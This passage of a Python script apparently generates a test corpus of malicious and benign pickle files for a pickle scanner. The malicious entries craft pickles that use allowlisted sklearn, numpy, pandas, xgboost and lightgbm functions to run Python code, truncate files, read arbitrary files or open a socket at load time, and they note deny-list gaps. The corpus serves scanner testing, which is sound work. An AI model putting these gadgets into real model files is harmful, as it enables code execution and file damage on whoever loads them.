    assert pickle.loads(chain(G("builtins", "len"), "abcd")) == {"cfg": {"k": 4}}
    if tag == "np2":
        import sklearn.utils._testing as _t  # noqa

        assert hasattr(_t, "assert_run_python_script_without_output")
        write("defaultdict_chainmap_partial_sklearn_run_python.pkl",
              chain(G("sklearn.utils._testing", "assert_run_python_script_without_output"), "print('aisec-redteam')"),
              "malicious", "allowlisted-higher-order",
              "dict(ChainMap(defaultdict(partial(sklearn.utils._testing.assert_run_python_script_without_output, src)), {'k':1})): dict() reads k through ChainMap, the defaultdict's missing key calls the factory -> runs Python source in a subprocess")
        write("defaultdict_chainmap_partial_memmap.pkl",
              chain(G("numpy._core.memmap", "memmap"), "/tmp/aisec-redteam2-memmap.bin", "uint8", "w+", 0, (8,)),
              "malicious", "allowlisted-higher-order",
              "dict(ChainMap(defaultdict(partial(numpy memmap, path, 'uint8', 'w+', 0, (8,))), {'k':1})): the wrapped call runs at load and creates a file")
        ok("chainmap")

    # --- M8b: defaultdict missing key read by sklearn Tree.__setstate__ (d['max_depth'])
    try:
        from sklearn.tree._tree import Tree  # noqa

        def tree_dd(fn, *args):
            tree = NewObj(G("sklearn.tree._tree", "Tree"), 1, Call(G("numpy.core.multiarray", "_reconstruct"),
                                                                     G("numpy", "ndarray"), (0,), b"b"), 1)
            # simpler: build the n_classes array from a list via numpy.array is not allowlisted; use the
            # real pickled Tree args instead
            return tree

        # Use the real reduce args of a fitted tree so NEWOBJ is what sklearn writes.
        from sklearn.tree import DecisionTreeClassifier

        real = DecisionTreeClassifier(max_depth=1).fit([[0], [1]], [0, 1]).tree_
        cls_, args_ = real.__reduce__()[:2]
        import copyreg  # noqa

        class Stub:
            pass

        def tree_payload(fn, *fargs):
            dd = Call(G("collections", "defaultdict"), Call(G("functools", "partial"), fn, *fargs))
            head = pickle.dumps(args_, protocol=2)[2:-1]  # the real args tuple as opcodes
            return b"\x80\x02" + emit(G("sklearn.tree._tree", "Tree")) + head + b"\x81" + emit(dd, 2) + b"b."

        d = tmpdir()
        target = os.path.join(d, "tree.bin")
        try:
            pickle.loads(tree_payload(G(mm_mod, "memmap"), target, "uint8", "w+", 0, (8,)))
        except Exception:  # the factory ran before max_depth is type-checked
            pass
        assert os.path.exists(target)
        tree_ok = True
        if tag == "np2":
            write("sklearn_tree_setstate_defaultdict_partial.pkl",
                  tree_payload(G("sklearn.utils._testing", "assert_run_python_script_without_output"),
                               "print('aisec-redteam')"), "malicious", "allowlisted-higher-order",
                  "sklearn Tree NEWOBJ + BUILD(defaultdict(partial(assert_run_python_script_without_output, src))): Tree.__setstate__ reads d['max_depth'], the missing key calls the factory")
        ok("tree_dd %s" % tree_ok)
    except ImportError:
        pass

    # --- numpy MT19937 state setter reads value['state']['key'] -> defaultdict factory
    def bitgen_dd(fn, *fargs):
        dd = Call(G("collections", "defaultdict"), Call(G("functools", "partial"), fn, *fargs))
        rs = Call(G("numpy.random._pickle", "__bit_generator_ctor"), "MT19937")
        return pk(Build(rs, {"bit_generator": "MT19937", "state": dd, "pos": 0}), 2)

    called = []
    d = tmpdir()
    target = os.path.join(d, "bg.bin")
    try:
        pickle.loads(bitgen_dd(G(mm_mod, "memmap"), target, "uint8", "w+", 0, (8,)))
    except Exception as e:
        called.append(str(e))
    assert os.path.exists(target)
    if tag == "np2":
        write("numpy_bitgen_state_defaultdict_partial.pkl",
              bitgen_dd(G("sklearn.utils._testing", "assert_run_python_script_without_output"), "print('aisec-redteam')"),
              "malicious", "allowlisted-higher-order",
              "__bit_generator_ctor('MT19937') + BUILD {'state': defaultdict(partial(run-python-script, src))}: the state setter reads state['key'] (missing) which calls the factory")

    print(tag, "validated", VALIDATED, called)


def section_np2():
    section_np_common("np2")
    import pickle

    import numpy as np
    import joblib
    import scipy.sparse as sp
    from sklearn import cluster, compose, ensemble, feature_extraction, linear_model, metrics, model_selection
    from sklearn import naive_bayes, neighbors, neural_network, pipeline, preprocessing, svm, decomposition
    from sklearn import impute, calibration, gaussian_process, isotonic, tree

    rng = np.random.RandomState(0)
    X = rng.rand(30, 3)
    y = (X[:, 0] > 0.5).astype(int)
    docs = ["the cat sat", "the dog ran", "a cat and a dog", "ran fast", "sat down"] * 2
    yd = [0, 1, 0, 1, 0] * 2
    models = {
        "svc": svm.SVC(probability=False).fit(X, y),
        "kmeans": cluster.KMeans(2, n_init=2, random_state=0).fit(X),
        "gbc": ensemble.GradientBoostingClassifier(n_estimators=3, max_depth=2).fit(X, y),
        "iforest": ensemble.IsolationForest(n_estimators=3, random_state=0).fit(X),
        "mlp": neural_network.MLPClassifier(hidden_layer_sizes=(3,), max_iter=5, random_state=0).fit(X, y),
        "tfidf": feature_extraction.text.TfidfVectorizer(stop_words="english", ngram_range=(1, 2)).fit(docs),
        "countvec": feature_extraction.text.CountVectorizer(token_pattern=r"(?u)\b\w+\b").fit(docs),
        "ohe": preprocessing.OneHotEncoder(handle_unknown="ignore").fit([["a"], ["b"]]),
        "knn": neighbors.KNeighborsClassifier(3, algorithm="kd_tree").fit(X, y),
        "balltree": neighbors.NearestNeighbors(n_neighbors=2, algorithm="ball_tree").fit(X),
        "pca": decomposition.PCA(2).fit(X),
        "gnb": naive_bayes.GaussianNB().fit(X, y),
        "calib": calibration.CalibratedClassifierCV(linear_model.LogisticRegression(), cv=2).fit(X, y),
        "gpr": gaussian_process.GaussianProcessRegressor(
            kernel=gaussian_process.kernels.RBF() + gaussian_process.kernels.WhiteKernel()).fit(X[:8], y[:8]),
        "isotonic": isotonic.IsotonicRegression().fit(X[:, 0], y),
        "scorer": metrics.make_scorer(metrics.fbeta_score, beta=2),
        "grid": model_selection.GridSearchCV(tree.DecisionTreeClassifier(random_state=0), {"max_depth": [1, 2]},
                                             cv=2, scoring="accuracy").fit(X, y),
        "stack": ensemble.StackingClassifier([("lr", linear_model.LogisticRegression()),
                                              ("dt", tree.DecisionTreeClassifier(max_depth=1))], cv=2).fit(X, y),
        "text_pipe": pipeline.make_pipeline(feature_extraction.text.TfidfVectorizer(), linear_model.SGDClassifier(
            max_iter=5, random_state=0)).fit(docs, yd),
        "coltrans_fn": pipeline.Pipeline([
            ("ct", compose.ColumnTransformer([
                ("num", pipeline.make_pipeline(impute.SimpleImputer(), preprocessing.StandardScaler(),
                                               preprocessing.FunctionTransformer(np.tanh)), [0, 1]),
                ("poly", preprocessing.PolynomialFeatures(2), [2])])),
            ("kbins", preprocessing.KBinsDiscretizer(3, encode="ordinal")),
            ("lr", linear_model.LogisticRegression())]).fit(X, y),
        "quantile": preprocessing.QuantileTransformer(n_quantiles=10).fit(X),
        "labelbin": preprocessing.LabelBinarizer().fit([1, 2, 3]),
        "targetenc": preprocessing.TargetEncoder(cv=2).fit([["a"], ["b"]] * 5, [0, 1] * 5),
        "hgb_reg": ensemble.HistGradientBoostingRegressor(max_iter=3).fit(X, X[:, 0]),
        "rf_reg": ensemble.RandomForestRegressor(n_estimators=2, max_depth=2, random_state=0).fit(X, X[:, 0]),
        "birch": cluster.Birch(n_clusters=2).fit(X),
    }
    for name, m in models.items():
        for p in (2, 5):
            b = pickle.dumps(m, protocol=p)
            if len(b) > 60000:
                continue
            pickle.loads(b)
            write(f"np2_sklearn_{name}_p{p}.pkl", b, "benign", "benign-sklearn",
                  f"scikit-learn 1.6 / numpy 2.2 {type(m).__name__}, protocol {p}")
    for name in ("grid", "text_pipe", "coltrans_fn", "gpr", "knn"):
        d = tmpdir()
        for comp in (0, 3, ("lzma", 3), ("bz2", 3), ("gzip", 3)):
            p = os.path.join(d, "m.joblib")
            joblib.dump(models[name], p, compress=comp)
            joblib.load(p)
            ctag = comp if isinstance(comp, int) else comp[0]
            write(f"np2_sklearn_{name}_c{ctag}.joblib", open(p, "rb").read(), "benign", "benign-sklearn",
                  f"joblib.dump({type(models[name]).__name__}, compress={comp!r}) with numpy 2")
    # numpy objects
    objs = {
        "masked": np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0], fill_value=-1),
        "recarray": np.rec.fromrecords([(1, 2.0, b"ab")], names="a,b,c"),
        "dt64": np.arange("2020-01", "2020-03", dtype="datetime64[D]")[:5],
        "td64": np.array([1, 2], dtype="timedelta64[ms]"),
        "longdouble": np.array([1.5], dtype=np.longdouble),
        "clongdouble": np.array([1 + 2j], dtype=np.clongdouble),
        "matrix": np.matrix([[1, 2], [3, 4]]),
        "chararray": np.char.array(["ab", "cd"]),
        "nested_struct": np.zeros(2, dtype=[("a", "<i4", (2,)), ("b", [("c", "<f8"), ("d", "S3")])]),
        "generator_pcg64": np.random.default_rng(0),
        "philox": np.random.Generator(np.random.Philox(1)),
        "sfc64": np.random.SFC64(2),
        "seedseq": np.random.SeedSequence(3),
        "randomstate": np.random.RandomState(4),
        "get_state": np.random.RandomState(5).get_state(),
        "poly1d": np.poly1d([1, 2, 3]),
        "polynomial": np.polynomial.Polynomial([1, 2]),
        "scalars": [np.float16(1), np.bool_(True), np.str_("x"), np.bytes_(b"y"), np.int8(-1),
                    np.datetime64("2020-01-01"), np.timedelta64(5, "s"), np.longdouble(2), np.uint64(2 ** 63)],
        "dtypes": [np.dtype(t) for t in ("f2", "c16", "M8[ns]", "m8[D]", "U3", "S2", "V4", ">i8", "?")],
        "masked_const": np.ma.masked,
        "sparse": {"csr": sp.csr_matrix(np.eye(3)), "csc": sp.csc_matrix(np.eye(3)), "coo": sp.coo_matrix(np.eye(2)),
                   "lil": sp.lil_matrix(np.eye(2)), "dok": sp.dok_matrix(np.eye(2)), "dia": sp.dia_matrix(np.eye(2)),
                   "bsr": sp.bsr_matrix(np.eye(2)), "csr_array": sp.csr_array(np.eye(2))},
    }
    for name, o in objs.items():
        for p in (0, 1, 2, 4, 5):
            b = pickle.dumps(o, protocol=p)
            pickle.loads(b)
            write(f"np2_numpy_{name}_p{p}.pkl", b, "benign", "benign-numpy", f"numpy 2.2 {name}, protocol {p}")
    d = tmpdir()
    p = os.path.join(d, "a.npz")
    np.savez_compressed(p, w=np.arange(10.0), m=np.eye(3, dtype="f2"), s=np.array(["a", "b"]),
                        dt=np.array(["2020-01-01"], dtype="M8[D]"), st=objs["nested_struct"])
    np.load(p)
    write("np2_savez_compressed.npz", open(p, "rb").read(), "benign", "benign-numpy",
          "np.savez_compressed with float/f2/U/datetime/nested-structured arrays")
    for name, arr in (("dict_config", np.array({"lr": 0.1, "layers": [64, 32], "name": "m"}, dtype=object)),
                      ("list_of_arrays", np.array([np.zeros(2), np.ones(3)], dtype=object)),
                      ("strings_obj", np.array(["a", None, 1.5], dtype=object))):
        p = os.path.join(d, name + ".npy")
        np.save(p, arr, allow_pickle=True)
        np.load(p, allow_pickle=True)
        write(f"np2_object_{name}.npy", open(p, "rb").read(), "benign", "benign-numpy",
              f"np.save(allow_pickle=True) of an object array ({name}): common config/ragged-array pattern")
    p = os.path.join(d, "o.npz")
    np.savez(p, cfg=np.array({"a": 1}, dtype=object), w=np.arange(3))
    write("np2_savez_object_member.npz", open(p, "rb").read(), "benign", "benign-numpy",
          "np.savez with a 0-d object member holding a config dict")


def section_np1():
    section_np_common("np1")
    import pickle

    import numpy as np
    import pandas as pd
    import joblib

    # --- pandas trusted _new_Index(cls, d) -> cls.__new__(cls, **d): memmap creates a file, no NEWOBJ
    def new_index(path):
        return pk(Call(G("pandas.core.indexes.base", "_new_Index"), G("numpy.core.memmap", "memmap"),
                       {"filename": path, "dtype": "uint8", "mode": "w+", "shape": (8,)}), 2)

    d = tmpdir()
    target = os.path.join(d, "c.bin")
    pickle.loads(new_index(target))
    assert os.path.getsize(target) == 8
    write("pandas_new_index_memmap.pkl", new_index("/tmp/aisec-redteam2-memmap.bin"), "malicious",
          "trusted-lib-higher-order",
          "pandas.core.indexes.base._new_Index(numpy memmap, {filename, mode:'w+', ...}): calls cls.__new__(cls, **d) -> creates/truncates a file")
    ok("new_index")

    # --- pandas file-writing classes
    def byteszip(path):
        return pk(Call(G("pandas.io.common", "_BytesZipFile"), path, "w"), 2)

    d = tmpdir()
    victim = os.path.join(d, "v.bin")
    open(victim, "w").write("important")
    pickle.loads(byteszip(victim))
    write("pandas_byteszipfile_truncate.pkl", byteszip("/tmp/aisec-redteam2-victim.bin"), "malicious",
          "trusted-lib-class-fs", "pandas.io.common._BytesZipFile(path, 'w'): zipfile.ZipFile(path,'w') truncates the file")

    def bytestar(path):
        return pk(Call(G("pandas.io.common", "_BytesTarFile"), path, "w"), 2)

    d = tmpdir()
    victim = os.path.join(d, "v.tar")
    pickle.loads(bytestar(victim))
    assert os.path.exists(victim)
    write("pandas_bytestarfile_create.pkl", bytestar("/tmp/aisec-redteam2-victim.tar"),
          "malicious", "trusted-lib-class-fs", "pandas.io.common._BytesTarFile(path, 'w'): tarfile.open(path,'w') creates/truncates")

    # --- CONSTRUCTOR_IO re-export aliases (xgboost/lightgbm)
    import xgboost as xgb
    import lightgbm as lgb

    d = tmpdir()
    X = np.random.RandomState(0).rand(40, 3)
    yb = (X[:, 0] > 0.5).astype(int)
    bst = xgb.train({"max_depth": 1}, xgb.DMatrix(X, label=yb), num_boost_round=2)
    mpath = os.path.join(d, "m.json")
    bst.save_model(mpath)
    for mod in ("xgboost.training", "xgboost.sklearn", "xgboost"):
        b = pk(Call(G(mod, "Booster"), None, None, mpath), 2)
        assert isinstance(pickle.loads(b), xgb.Booster)
        write(f"{mod.replace('.', '_')}_booster_model_file.pkl",
              pk(Call(G(mod, "Booster"), None, None, "/tmp/aisec-redteam2-nonexistent.json"), 2), "malicious",
              "trusted-lib-alias", f"{mod}.Booster(None, None, path): xgboost.core.Booster re-exported; reads an arbitrary model file")
    lb = lgb.train({"verbose": -1, "num_leaves": 2}, lgb.Dataset(X, yb), num_boost_round=2)
    lpath = os.path.join(d, "l.txt")
    lb.save_model(lpath)
    for mod in ("lightgbm.engine", "lightgbm.sklearn", "lightgbm"):
        b = pk(Call(G(mod, "Booster"), {}, None, lpath), 2)
        assert isinstance(pickle.loads(b), lgb.Booster)
        write(f"{mod.replace('.', '_')}_booster_model_file.pkl",
              pk(Call(G(mod, "Booster"), {}, None, "/tmp/aisec-redteam2-nonexistent.txt"), 2), "malicious",
              "trusted-lib-alias", f"{mod}.Booster({{}}, None, path): lightgbm Booster re-exported; reads an arbitrary model file")
    cvp = os.path.join(d, "cv.json")
    json.dump(lgb.cv({"verbose": -1, "num_leaves": 2}, lgb.Dataset(X, yb), num_boost_round=2, nfold=2,
                     return_cvbooster=True)["cvbooster"].dump_model() if False else {"boosters": [], "best_iteration": 1}, open(cvp, "w"))
    try:
        pickle.loads(pk(Call(G("lightgbm", "CVBooster"), cvp), 2))
        write("lightgbm_cvbooster_model_file.pkl", pk(Call(G("lightgbm", "CVBooster"), "/tmp/aisec-redteam2-nonexistent.json"), 2),
              "malicious", "trusted-lib-class-fs", "lightgbm.CVBooster(model_file): open()s and json-loads an arbitrary file")
    except Exception as e:
        print("cvbooster", e)
    b = pk(Call(G("xgboost", "DMatrix"), mpath + "?format=csv"), 2)
    write("xgboost_dmatrix_alias_file.pkl", pk(Call(G("xgboost", "DMatrix"), "/tmp/aisec-redteam2-nonexistent.csv?format=csv"), 2),
          "malicious", "trusted-lib-alias", "xgboost.DMatrix(path) (deny list has xgboost.core.DMatrix only): reads a data file")

    # xgboost RabitTracker binds a listening socket in __init__
    trk = pk(Call(G("xgboost.tracker", "RabitTracker"), 1, "127.0.0.1", 0), 2)
    t = pickle.loads(trk)
    t.free()
    write("xgboost_rabittracker_listen.pkl", pk(Call(G("xgboost.tracker", "RabitTracker"), 1, "127.0.0.1", 9), 2),
          "malicious", "trusted-lib-class-network", "xgboost.tracker.RabitTracker(1, '127.0.0.1', 9): creates a tracker (binds a listening socket) at load")

    # --- benign: pandas / numpy1 / sklearn 1.5 / lightgbm / xgboost / lz4
    import pytz

    df = pd.DataFrame({
        "i": [1, 2, 3], "f": [0.5, None, 2.0], "s": ["a", "b", None],
        "cat": pd.Categorical(["x", "y", "x"], categories=["x", "y", "z"], ordered=True),
        "dt": pd.to_datetime(["2020-01-01", "2020-06-01", None]),
        "dt_utc": pd.date_range("2021-01-01", periods=3, tz="UTC"),
        "td": pd.to_timedelta([1, 2, 3], unit="h"),
        "per": pd.period_range("2020-01", periods=3, freq="M"),
        "iv": pd.interval_range(0, 3),
        "nullable": pd.array([1, None, 3], dtype="Int64"),
        "boolean": pd.array([True, None, False], dtype="boolean"),
        "string": pd.array(["p", None, "q"], dtype="string"),
        "sparse": pd.arrays.SparseArray([0, 0, 1]),
    }, index=pd.RangeIndex(3, name="row"))
    pdobjs = {
        "dataframe_mixed": df,
        "series_float": pd.Series([1.0, 2.0], index=["a", "b"], name="s"),
        "multiindex": pd.DataFrame({"v": [1, 2]}, index=pd.MultiIndex.from_tuples([("a", 1), ("b", 2)], names=["k", "n"])),
        "categorical": pd.Categorical(["a", "b"]),
        "timestamp_naive": pd.Timestamp("2020-01-01 12:00"),
        "timestamp_utc": pd.Timestamp("2020-01-01", tz="UTC"),
        "period": pd.Period("2020Q1"),
        "interval": pd.Interval(0, 1, closed="left"),
        "dateoffset": [pd.offsets.Day(2), pd.offsets.MonthEnd(), pd.offsets.BusinessDay()],
        "datetimeindex_freq": pd.date_range("2020-01-01", periods=4, freq="D"),
        "timedeltaindex": pd.timedelta_range("1 day", periods=2),
        "series_tz_pytz": pd.Series(pd.date_range("2024-01-01", periods=3, tz=pytz.timezone("US/Eastern"))),
        "series_tz_name": pd.Series(pd.date_range("2024-01-01", periods=3, tz="Europe/Berlin")),
        "timestamp_tz_name": pd.Timestamp("2024-01-01", tz="Asia/Tokyo"),
    }
    for name, o in pdobjs.items():
        for p in (0, 1, 2, 4, 5):
            b = pickle.dumps(o, protocol=p)
            pickle.loads(b)
            if len(b) > 60000:
                continue
            write(f"np1_pandas_{name}_p{p}.pkl", b, "benign", "benign-pandas",
                  f"pandas {pd.__version__} / numpy {np.__version__} {name}, protocol {p}")
    for comp in (0, 3, ("lz4", 3), ("xz", 3)):
        p = os.path.join(d, "df.joblib")
        joblib.dump({"frame": df, "series": pdobjs["series_float"]}, p, compress=comp)
        joblib.load(p)
        ctag = comp if isinstance(comp, int) else comp[0]
        write(f"np1_pandas_frame_c{ctag}.joblib", open(p, "rb").read(), "benign", "benign-pandas",
              f"joblib.dump of a mixed-dtype DataFrame (compress={comp!r})")
    p = os.path.join(d, "df.pkl.gz")
    pd.DataFrame({"a": [1, 2]}).to_pickle(p)
    write("np1_pandas_to_pickle.pkl.gz", open(p, "rb").read(), "benign", "benign-pandas", "DataFrame.to_pickle('x.pkl.gz')")

    lgbm = lgb.LGBMClassifier(n_estimators=3, num_leaves=3, verbose=-1).fit(X, yb)
    xgbm = xgb.XGBClassifier(n_estimators=2, max_depth=1).fit(X, yb)
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler, FunctionTransformer
    from sklearn.linear_model import LogisticRegression

    extra = {
        "lgbm_classifier": lgbm,
        "lgbm_booster": lb,
        "xgb_classifier": xgbm,
        "xgb_booster": bst,
        "sk15_pipeline_fn": make_pipeline(FunctionTransformer(np.log1p, inverse_func=np.expm1), StandardScaler(),
                                          LogisticRegression()).fit(X, yb),
        "sk15_rf": RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, yb),
        "np1_randomstate": np.random.RandomState(0),
        "np1_generator": np.random.default_rng(1),
        "np1_masked": np.ma.masked_array([1, 2], mask=[1, 0]),
        "np1_longdouble": np.array([1.0], dtype=np.longdouble),
        "np1_matrix": np.matrix([[1.0]]),
    }
    for name, o in extra.items():
        for p in (2, 4):
            b = pickle.dumps(o, protocol=p)
            if len(b) > 60000:
                continue
            pickle.loads(b)
            write(f"np1_{name}_p{p}.pkl", b, "benign", "benign-gbm" if "gb" in name else "benign-numpy",
                  f"{type(o).__module__}.{type(o).__name__} (numpy {np.__version__}), protocol {p}")
    for name in ("lgbm_classifier", "xgb_classifier", "sk15_pipeline_fn"):
        for comp in (0, ("lz4", 3), ("zlib", 3)):
            p = os.path.join(d, "m.joblib")
            joblib.dump(extra[name], p, compress=comp)
            joblib.load(p)
            ctag = comp if isinstance(comp, int) else comp[0]
            write(f"np1_{name}_c{ctag}.joblib", open(p, "rb").read(), "benign", "benign-gbm",
                  f"joblib.dump({name}, compress={comp!r})")
    print("np1 validated", VALIDATED)


def main():
    if "--section" in sys.argv:
        sec = sys.argv[sys.argv.index("--section") + 1]
        {"core": section_core, "np2": section_np2, "np1": section_np1}[sec]()
        return
    import shutil

    for d in (MAL, BEN):
        shutil.rmtree(d, ignore_errors=True)
    if os.path.exists(ROWS):
        os.remove(ROWS)
    py2 = os.environ.get("AISEC_RT2_PY_NP2", "/work/venv-fix/bin/python")
    py1 = os.environ.get("AISEC_RT2_PY_NP1", "/tmp/rt2venv/bin/python")
    for sec, py in (("core", py2), ("np2", py2), ("np1", py1)):
        if not os.path.exists(py):
            print(f"skipping section {sec}: {py} missing")
            continue
        subprocess.run([py, os.path.abspath(__file__), "--section", sec], check=True, cwd=tempfile.gettempdir())
    rows = [json.loads(l) for l in open(ROWS)]
    os.remove(ROWS)
    rows.sort()
    with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
        f.write("path\texpected\tclass\tdescription\n")
        for r in rows:
            f.write("\t".join(r) + "\n")
    print(f"{len(rows)} files")


if __name__ == "__main__":
    main()
